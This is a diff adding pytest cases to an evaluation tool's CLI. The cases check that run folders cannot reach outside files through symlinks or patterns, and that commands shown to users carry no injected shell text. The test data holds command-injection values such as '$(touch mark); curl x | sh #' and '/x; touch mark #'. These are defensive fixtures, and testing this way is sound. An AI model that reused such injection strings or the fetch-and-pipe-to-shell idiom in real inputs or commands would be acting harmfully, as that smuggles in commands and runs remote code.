@@ -130,8 +130,15 @@ def _head(run: Path, *, live: dict[str, Any] | None = None, **facts: Any) -> Non
     path.write_text(json.dumps({**head, **facts, "live": {**head["live"], **(live or {})}}))
 
 
+HOW = (
+    *("input", "pattern", "option", "patterns of an option", "folder", "source", "cache", "reuse", "export", "link"),
+    *("outputs", "further", "spool", "follows"),
+)
+"""How a run folder names what is not in it."""
+
+
 @pytest.mark.parametrize("command", ["resume", "extend"])
-@pytest.mark.parametrize("how", ["input", "option", "source", "cache", "reuse", "export", "link", "follows"])
+@pytest.mark.parametrize("how", HOW)
 def test_no_run_folder_has_a_file_read_or_written_elsewhere(art: Art, tmp_path: Path, command: str, how: str) -> None:
     """Inputs, golden sets, options, caches and exports that lie outside: refused by name, and left as they are."""
     outside = tmp_path / "outside"
@@ -143,6 +150,18 @@ def test_no_run_folder_has_a_file_read_or_written_elsewhere(art: Art, tmp_path: 
     wrong = str(secret)
     if how == "input":
         _head(run, request={**request, "inputs": [wrong]})
+    elif how == "pattern":
+        _head(run, request={**request, "inputs": [str(outside / "priv*.jsonl")]})
+    elif how == "patterns of an option":
+        _head(run, request={**request, "options": {"outputs": [str(outside / "*.jsonl")]}})
+    elif how == "folder":
+        (run / "in").mkdir()
+        (run / "in" / "x.jsonl").symlink_to(secret)
+        _head(run, request={**request, "inputs": [str(run / "in")]})
+    elif how in ("outputs", "further", "spool"):
+        link = run / {"outputs": "outputs.jsonl"}.get(how, how)
+        link.unlink(missing_ok=True)
+        link.symlink_to(secret if how == "outputs" else outside)
     elif how == "option":
         _head(run, request={**request, "options": {"outputs": [wrong]}})
     elif how == "source":
@@ -175,6 +194,57 @@ def test_no_run_folder_has_a_file_read_or_written_elsewhere(art: Art, tmp_path: 
     assert sorted(path.name for path in outside.iterdir()) == before
     assert not [path for path in art.folder.rglob("*") if path.is_file() and SECRET in path.read_text(errors="ignore")
                 and not path.is_symlink()]  # fmt: skip
+
+
+@pytest.mark.parametrize("ending", ["jsonl", "csv", "html", "compare"])
+def test_no_output_holds_what_a_link_for_the_records_leads_to(art: Art, tmp_path: Path, ending: str) -> None:
+    """A report that is written again would carry a file of its reader's; a link within the current folder is read."""
+    secret, run = tmp_path / "secret.jsonl", art.folder / "evalq-runs" / "done"
+    records = run / "records.jsonl"
+    records.rename(secret)
+    records.symlink_to(secret)
+    (run / "cases.json").unlink()
+    report = ("report", str(run), "-o", f"copy.{ending}", "--format", "none")
+    args = ("compare", str(run), str(run)) if ending == "compare" else report
+    done = evalq(*args, cwd=art.folder)
+    assert (done.returncode, "a run folder does not choose the path" in done.stderr) == (2, True), done.stderr
+    assert not Path(f"copy.{ending}").exists()
+    secret.rename(art.folder / "secret.jsonl")
+    records.unlink()
+    records.symlink_to(art.folder / "secret.jsonl")
+    assert evalq(*args, cwd=art.folder).returncode == 0
+
+
+@pytest.mark.parametrize(
+    ("server", "shown"),
+    [
+        ("$(touch mark); curl x | sh #", "--broker URL"),
+        ("--broker '$(touch mark)'", "--broker '$(touch mark)'"),
+        ("--broker redis://h:1/0 --ledger redis://h:2/0", "--broker redis://h:1/0 --ledger redis://h:2/0"),
+        ("--broker redis://h:1/0; touch mark", "--broker URL"),
+        ("--broker redis://h:1/0;touch", "--broker 'redis://h:1/0;touch'"),
+        ("--targets evil/t.yaml", "--broker URL"),
+        ("--broker 'x", "--broker URL"),
+        ("--broker redis://h:1/0\ntouch mark", "--broker URL"),
+    ],
+)
+def test_a_command_to_copy_holds_no_other_command(art: Art, server: str, shown: str) -> None:
+    """What run.json says of its server stands there as options, or not at all."""
+    run = art.folder / "evalq-runs" / "spent"
+    _forged(run, server=server, state="calling")
+    assert RunFolder(run).info().server == shown
+    done = evalq("resume", "evalq-runs/spent", "--max-calls", "9", "--format", "none", cwd=art.folder)
+    assert done.returncode == 2, done.stderr
+    assert f"evalq resume evalq-runs/spent {shown} (or another" in done.stderr
+
+
+def test_a_folder_to_change_to_is_one_word(art: Art) -> None:
+    """The folder where a sweep was begun stands in a command, too."""
+    run = art.folder / "evalq-runs" / "done"
+    request = json.loads((run / "run.json").read_text())["request"]
+    _head(run, cwd="/x; touch mark #", request={**request, "inputs": ["nowhere.json"]})
+    done = evalq("extend", str(run), "--repeat", "3", "--targets", "mine.yaml", "--format", "none", cwd=art.folder)
+    assert "cd '/x; touch mark #'" in done.stderr, done.stderr
 
 
 def test_workers_read_under_no_root_that_a_folder_names(art: Art) -> None:
